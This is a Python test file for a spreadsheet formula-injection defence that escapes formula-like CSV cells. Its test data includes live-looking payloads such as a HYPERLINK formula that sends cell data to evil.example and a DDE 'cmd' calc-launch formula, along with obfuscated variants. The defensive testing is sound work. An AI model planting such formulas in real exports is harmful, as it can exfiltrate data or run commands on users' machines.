"""What a spreadsheet would run is told from what it would show."""

import csv
import io

import pyarrow as pa
import pytest

from bus.contract.events import Column
from gateway.http_api.jobs.export_formats import CsvWriter
from gateway.http_api.jobs.formulas import defused

RUN = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-2-",
    "@SUM(A1:A9)",
    "|cmd",
    "%0A=1",
    " =1",
    "\t=1",
    "\ttext",
    "\r=1",
    "\n=1",
    "\ufeff=1",
    "\x00=1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
    "-0044-03-15",
    "+49 30 1234",
    "-Infinity",
    "- 1",
    "1e5\n=1"[3:],
]
SHOWN = ["", "a", "a=b", "1", "-1", "+1", "-1.50", "-.5", "1e5", "-1E-5", "ok\n=1", "'=1", "2013-01-01", "[-1]", "−1"]  # noqa: RUF001


def texts(values: list[str | None]) -> pa.ChunkedArray:
    return pa.chunked_array([pa.array(values, pa.string())])


@pytest.mark.parametrize("text", RUN, ids=ascii)
def test_a_formula_is_marked_as_text(text: str) -> None:
    assert defused(texts([text])).to_pylist() == [f"'{text}"]


@pytest.mark.parametrize("text", SHOWN, ids=ascii)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert defused(texts([text, None])).to_pylist() == [text, None]


def written(table: pa.Table, types: list[str], *, safe: bool) -> list[list[str]]:
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, table.schema) as stream:
        stream.write_table(table)
    writer = CsvWriter([Column(name, kind) for name, kind in zip(table.column_names, types, strict=True)], safe=safe)
    text = (writer.rows(bytes(sink.getvalue())) + writer.end()).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("safe", [True, False])
def test_names_and_values_of_every_column_are_looked_at(safe: bool) -> None:
    mark = "'" if safe else ""
    table = pa.table({"=name": ["=1", None, "x"], "n": [-1, 0, 1], "f": [-0.5, 1.0, None], "m": ["=2", "-3", "y"]})
    assert written(table, ["VARCHAR", "BIGINT", "DOUBLE", "VARCHAR"], safe=safe) == [
        [f"{mark}=name", "n", "f", "m"],
        [f"{mark}=1", "-1", "-0.5", f"{mark}=2"],
        ["", "0", "1.0", "-3"],
        ["x", "1", "", "y"],
    ]
